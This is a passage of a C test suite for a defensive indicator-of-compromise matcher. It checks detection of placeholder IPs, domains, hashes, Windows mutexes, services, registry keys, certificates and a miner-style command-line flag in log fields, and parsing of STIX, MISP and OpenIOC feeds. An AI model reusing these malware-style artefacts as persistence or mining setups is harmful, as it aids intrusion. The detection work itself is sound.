    scene_of(&s, "0123456789abcdef0123456789abcdef\nbad.exe\n");
    CHECK_STR(in(&s, "Message", "It was 0123456789abcdef0123456789abcdef."),
              "hash-mentioned=0123456789abcdef0123456789abcdef");
    CHECK_STR(in(&s, "Message", "Somebody ran bad.exe."), "filename-mentioned=bad.exe");
    CHECK_STR(in(&s, "Message", md5), "hash-mentioned=0123456789abcdef0123456789abcdef");
    scene_close(&s);
}

static void several_in_one_event_are_all_told(void)
{
    struct scene s;
    scene_of(&s, "1.2.3.4\n5.6.7.8\n1.2.3.4\n");
    CHECK_STR(in(&s, "Message", "1.2.3.4 and 5.6.7.8"), "address-mentioned=1.2.3.4");
    CHECK_INT(indicators_total(s.set), 3);
    scene_close(&s);
}

/* What was built, opened beside nothing else. `room` outlives the scene. */
static void scene_of_compiled(struct scene *s, bytes compiled)
{
    const char *why = NULL;
    scene_open(s);
    CHECK(indicators_is_compiled(compiled));
    CHECK(indicators_open(s->set, compiled, &why));
    scene_build(s);
}

static void things_of_windows_are_found_in_the_spellings_of_its_logs(void)
{
    struct scene s;
    scene_of(&s, "mutex: Global\\EvilMutex\nservice: EvilSvc\n"
                 "task: \\Microsoft\\Windows\\Evil\nregistry: HKLM\\SOFTWARE\\Evil\\key\n"
                 "registry: HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\n"
                 "imphash: 0123456789abcdef0123456789abcdef\n");
    CHECK_STR(in(&s, "ObjectName", "\\Sessions\\1\\BaseNamedObjects\\EvilMutex"),
              "mutex-written=\\Sessions\\1\\BaseNamedObjects\\EvilMutex");
    CHECK_STR(in(&s, "ObjectName", "\\Sessions\\1\\BaseNamedObjects\\evilmutex"), "");
    CHECK_STR(in(&s, "ServiceName", "evilsvc"), "service-executed=evilsvc");
    CHECK_STR(in(&s, "ServiceName", "evilsvc2"), "");
    CHECK_STR(in(&s, "TaskName", "\\Microsoft\\Windows\\EVIL"),
              "task-executed=microsoft\\windows\\evil");
    CHECK_STR(in(&s, "TaskName", "\\Microsoft\\Windows\\EVIL\\x"), "");
    CHECK_STR(in(&s, "TargetObject", "HKU\\S-1-5-21-1-2-3-500\\Software\\Evil\\Key\\(Default)"),
              "registry-written=software\\evil\\key");
    CHECK_STR(in(&s, "ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\evil"),
              "registry-written=system\\currentcontrolset\\services\\evil");
    CHECK_STR(in(&s, "TargetObject", "HKLM\\SOFTWARE\\Evil\\key2"), "");
    CHECK_STR(in(&s, "TargetObject", "HKLM\\SOFTWARE\\Evil"), "");
    CHECK_STR(in(&s, "Hashes", "MD5=0123456789abcdef0123456789abcdef"), "");
    CHECK_STR(in(&s, "Hashes", "IMPHASH=0123456789ABCDEF0123456789abcdef"),
              "imphash-seen=0123456789ABCDEF0123456789abcdef");
    scene_close(&s);
}

static void certificates_and_subjects_are_found(void)
{
    struct scene s;
    scene_of(&s, "certificate: 0A:1B:2C:3D:4E:5F:60:71:82:93\n"
                 "certificate-name: CN=evil.example\nemail-subject: Your Invoice\n");
    CHECK_STR(in(&s, "tls.serial", "0a1b2c3d4e5f60718293"),
              "certificate-connected=0a1b2c3d4e5f60718293");
    CHECK_STR(in(&s, "tls.serial", "A1B2C3D4E5F60718293"),
              "certificate-connected=A1B2C3D4E5F60718293");
    CHECK_STR(in(&s, "tls.serial", "0a1b2c3d4e5f60718294"), "");
    CHECK_STR(in(&s, "tls.subject", "cn=Evil.example"),
              "certificate-name-connected=cn=Evil.example");
    CHECK_STR(in(&s, "message-subject", " your invoice "), "email-subject-seen= your invoice ");
    CHECK_STR(in(&s, "message-subject", "your invoice 2"), "");
    scene_close(&s);
}

static void fragments_and_expressions_are_found_inside(void)
{
    struct scene s;
    scene_open(&s);
    scene_read(&s, "rows",
               "type,value\ncmdline,--algo=rx/0\npath-regex,\"(?i)\\\\ctl\\.dll$\"\n"
               "regex,(unclosed\ncmdline,ab\n");
    scene_build(&s);
    CHECK_STR(in(&s, "CommandLine", "x.exe --ALGO=rx/0 -t 1"),
              "text-executed=x.exe --ALGO=rx/0 -t 1");
    CHECK_STR(in(&s, "CommandLine", "x.exe --algo=rx/1"), "");
    CHECK_STR(in(&s, "ImageLoaded", "C:\\Windows\\CTL.dll"),
              "expression-executed=C:\\Windows\\CTL.dll");
    CHECK_STR(in(&s, "ImageLoaded", "C:\\Windows\\ctl.dll.txt"), "");
    CHECK_INT(indicators_refused(s.set), 2);
    CHECK_INT(indicators_total(s.set), 2);
    struct scene of_set;
    scene_of_compiled(&of_set, indicators_compiled(s.set));
    CHECK_STR(in(&of_set, "ImageLoaded", "C:\\Windows\\CTL.dll"),
              "expression-executed=C:\\Windows\\CTL.dll");
    scene_close(&of_set);
    scene_close(&s);
}

/* ---- compiled sets */

static const char everything[] = "type,value,incident,actor,confidence,note,id,valid_until\n"
                                 "ipv4,1.2.3.4,The wave,Somebody,95,,a1,2021-05-01\n"
                                 "cidr,10.20.0.0/14,The wave,Somebody,95,,a2,\n"
                                 "domain,evil.example,The wave,,20,rented,a3,\n"
                                 "url,http://bad.example/x,Other,benign,,,a4,\n";

static const struct {
    const char *field, *value;
} asked[] = {
    {"c-ip",      "1.2.3.4"             },
    {"c-ip",      "1.2.3.5"             },
    {"c-ip",      "10.23.1.1"           },
    {"QueryName", "www.evil.example"    },
    {"QueryName", "devil.example"       },
    {"c-uri",     "http://bad.example/x"},
    {"Message",   "ask 1.2.3.4, please" },
};

static void a_compiled_set_finds_what_its_lists_find(void)
{
    struct scene of_list, of_set;
    scene_open(&of_list);
    scene_read(&of_list, "rows.csv", everything);
    scene_build(&of_list);
    scene_of_compiled(&of_set, indicators_compiled(of_list.set));
    for (size_t i = 0; i < ARRAY_LEN(asked); i++) {
        char told[sizeof of_list.told];
        str got = in(&of_list, asked[i].field, asked[i].value);
        (void)snprintf(told, sizeof told, "%.*s", STR_ARG(got));
        CHECK_STR(in(&of_set, asked[i].field, asked[i].value), told);
    }
    CHECK_INT(indicators_total(of_set.set), indicators_total(of_list.set));
    scene_close(&of_set);
    scene_close(&of_list);
}

static void sets_and_lists_are_looked_for_together_and_share_their_caveats(void)
{
    struct scene compiled, s;
    const char *why = NULL;
    scene_of(&compiled, "1.2.3.4\nevil.example\n");
    scene_open(&s);
    scene_read(&s, "list", "5.6.7.8\n");
    scene_read(&s, "notes", "type,value,note\nipv4,1.2.3.4,shared by many\n");
    CHECK(indicators_open(s.set, indicators_compiled(compiled.set), &why));
    scene_build(&s);
    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected-weak=1.2.3.4");
    CHECK_STR(in(&s, "c-ip", "5.6.7.8"), "address-connected=5.6.7.8");
    CHECK_STR(in(&s, "QueryName", "evil.example"), "domain-resolved=evil.example");
    CHECK_INT(indicators_total(s.set), 3);
    scene_close(&s);
    scene_close(&compiled);
}

/* Each byte, in turn: refused, or read without harm; a sum is not there to help. */
static void a_broken_set_is_refused_or_harmless(void)
{
    struct scene made;
    size_t refused = 0;
    scene_open(&made);
    scene_read(&made, "rows.csv", everything);
    scene_build(&made);
    bytes whole = indicators_compiled(made.set);
    const size_t head = 800, step = 397;
    for (size_t i = 0; i < whole.len; i += i < head ? 1 : step) {
        uint8_t *broken = malloc(whole.len);
        struct scene s;
        const char *why = NULL;
        memcpy(broken, whole.p, whole.len);
        broken[i] ^= 0xff;
        scene_open(&s);
        if (indicators_open(s.set, (bytes){broken, whole.len}, &why)) {
            scene_build(&s);
            for (size_t k = 0; s.run && k < ARRAY_LEN(asked); k++) {
                (void)in(&s, asked[k].field, asked[k].value);
            }
        } else {
            CHECK(why);
            refused++;
        }
        scene_close(&s);
        free(broken);
    }
    CHECK(refused > 50);
    for (size_t len = 0; len < whole.len; len += len < head ? 1 : step) {
        struct scene s;
        const char *why = NULL;
        uint8_t *cut = malloc(len + 1);
        memcpy(cut, whole.p, len);
        scene_open(&s);
        CHECK(!indicators_open(s.set, (bytes){cut, len}, &why));
        scene_close(&s);
        free(cut);
    }
    scene_close(&made);
}

static void a_list_that_repeats_itself_is_no_larger_nor_slower(void)
{
    enum { MANY = 20000 };
    struct scene s;
    SCOPED(buf_done) struct buf list;
    buf_init(&list, 16 << 20);
    for (int i = 0; i < MANY; i++) {
        buf_add(&list, STR("1.2.3.4\n"));
    }
    buf_add(&list, STR("\n"));
    scene_open(&s);
    indicators_read(s.set, STR("list"), bytes_of_str(buf_str(&list)));
    buf_clear(&list);
    buf_add(&list, STR("type,value,id\n"));
    for (int i = 0; i < MANY; i++) {
        buf_printf(&list, "ipv4,5.6.7.8,%d\n", i);
    }
    indicators_read(s.set, STR("rows"), bytes_of_str(buf_str(&list)));
    scene_build(&s);
    CHECK(indicators_refused(s.set) > 0);
    CHECK_STR(in(&s, "c-ip", "1.2.3.4"), "address-connected=1.2.3.4");
    CHECK_STR(in(&s, "c-ip", "5.6.7.8"), "address-connected=5.6.7.8");
    scene_close(&s);
}

int main(void)
{
    RUN(things_of_windows_are_found_in_the_spellings_of_its_logs);
    RUN(certificates_and_subjects_are_found);
    RUN(fragments_and_expressions_are_found_inside);
    RUN(a_compiled_set_finds_what_its_lists_find);
    RUN(sets_and_lists_are_looked_for_together_and_share_their_caveats);
    RUN(a_broken_set_is_refused_or_harmless);
    RUN(a_list_that_repeats_itself_is_no_larger_nor_slower);
    RUN(an_address_is_found_as_a_whole_and_in_every_spelling);
    RUN(a_network_holds_its_addresses_and_no_others);
    RUN(a_domain_is_found_with_its_subdomains_at_borders_of_labels);
    RUN(a_url_is_found_whatever_its_scheme_and_query);
    RUN(a_path_is_found_from_a_folder_on_and_a_rooted_one_as_a_whole);
    RUN(a_file_name_is_the_last_part_of_a_path);
    RUN(a_hash_is_found_in_lists_of_hashes_and_says_what_became_of_its_file);
    RUN(a_file_of_the_evidence_is_found_by_its_hash_and_its_place);
    RUN(mail_agents_and_accounts_are_found_where_they_are_meant);
    RUN(a_field_that_means_nothing_is_not_looked_into);
    RUN(confidence_validity_and_caveats_decide_what_a_match_is_worth);
    RUN(stix_patterns_of_equalities_are_read_and_others_left_to_their_reader);
    RUN(parts_that_have_to_hold_together_are_weak_without_a_hash);
    RUN(a_pattern_of_very_many_values_is_read_in_time_that_grows_with_it);
    RUN(a_bundle_says_what_its_indicators_indicate_wherever_it_says_it);
    RUN(misp_says_who_what_may_be_told_and_what_is_legitimate);
    RUN(openioc_is_read_and_what_stands_below_an_and_is_weak);
    RUN(the_hashes_of_a_feed_are_no_list);
    RUN(attributes_and_their_patterns_are_read_alike);
    RUN(misp_attributes_for_detection_are_read);
    RUN(what_is_not_understood_is_told_with_its_line);
    RUN(hostile_lists_cost_their_own_lines_and_no_others);
    RUN(a_set_takes_less_than_32_bytes_an_indicator);
    RUN(a_hash_and_a_name_are_found_at_the_end_of_a_sentence);
    RUN(several_in_one_event_are_all_told);
    return kit_end();
}
